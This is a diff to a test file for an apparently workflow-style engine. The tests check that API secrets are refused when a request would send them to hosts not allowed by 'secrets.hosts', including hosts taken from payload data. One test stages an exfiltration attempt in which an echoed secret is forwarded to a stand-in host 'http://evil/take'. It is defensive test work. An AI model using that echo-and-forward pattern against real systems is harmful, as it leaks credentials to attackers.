@@ -106,10 +106,53 @@ describe('a bound secret', () => {
     };
     expect(await run(calling(auth, {}, retryAtOnce(3)))).toMatchObject({
       reason: 'unsent',
-      failureDescription: `The secret ${name} may not go to ${host}.`,
+      failureDescription: `The secret ${name} may not go to ${host}: secrets.hosts does not name it.`,
     });
     expect(fixture.http.calls).toEqual([]);
     expect(new Set(asked)).toEqual(new Set([host]));
+  });
+
+  it.each([
+    [basic, 'USER', undefined],
+    [bearer, 'KEY', undefined],
+    [oauth, 'SECRET', 'An access token fetched with SECRET'],
+  ])('of %j goes to a host that comes from data only where it is named for it', async (auth, name, what) => {
+    const definition = calling(auth, { url: '{{payload.url}}' }, retryAtOnce(3));
+    const payload = { url: 'http://canary-host/a' };
+    fixture.mayGoTo = (_secret, _url, hostFromData) => !hostFromData;
+    const detail = await fixture.until(await fixture.submit(engine, definition, { payload }));
+    expect(detail).toMatchObject({
+      reason: 'unsent',
+      failureDescription: `${what ?? `The secret ${name}`} may not go to canary-host, a host that comes from data: secrets.hosts does not name it.`,
+    });
+    expect(fixture.http.calls).toEqual([]);
+    // What data says stays out of the log, which names the template.
+    expect(JSON.stringify(fixture.logs)).not.toContain('canary');
+    expect(JSON.stringify(fixture.logs)).toContain('may not go to the host of {{payload.url}}');
+    issueTokens();
+    fixture.mayGoTo = () => true;
+    const passed = await fixture.until(await fixture.submit(engine, definition, { payload }));
+    expect(passed.status).toBe('SUCCEEDED');
+  });
+
+  it('is not carried elsewhere by what echoes it', async () => {
+    fixture.mayGoTo = (_secret, url) => !url.startsWith('http://evil/');
+    fixture.misplaced = ({ url, body }) =>
+      url.startsWith('http://evil/') && body?.includes('key-1') === true ? 'KEY' : undefined;
+    fixture.http.reply = (path) => (path === 'echo' ? { body: { said: 'key-1' } } : {});
+    const first = { request: { url: 'http://mock/echo', verb: 'POST', auth: bearer } };
+    const second = {
+      request: { url: 'http://evil/take', verb: 'POST', body: '{{nodes.a.response.body.said}}' },
+    };
+    const saga = graph([
+      task('a', { action: first, compensation: false, next: 'b' }),
+      task('b', { action: second, compensation: false, ...retryAtOnce(3) }),
+    ]);
+    expect(await run(saga)).toMatchObject({
+      reason: 'unsent',
+      failureDescription: 'The request holds the secret KEY, which may not go to evil: secrets.hosts does not name it.',
+    });
+    expect(fixture.http.paths()).toEqual(['echo']);
   });
 
   it('is not sent from a template either', async () => {
@@ -117,7 +160,7 @@ describe('a bound secret', () => {
     const plain = { request: { url: 'http://mock/a', verb: 'POST', body: 'x {{secrets.KEY}}' } };
     expect(await run(graph([task('a', { action: plain, compensation: false, ...retryAtOnce(3) })]))).toMatchObject({
       reason: 'unsent',
-      failureDescription: 'The secret KEY may not go to mock.',
+      failureDescription: 'The secret KEY may not go to mock: secrets.hosts does not name it.',
     });
     expect(fixture.http.calls).toEqual([]);
   });
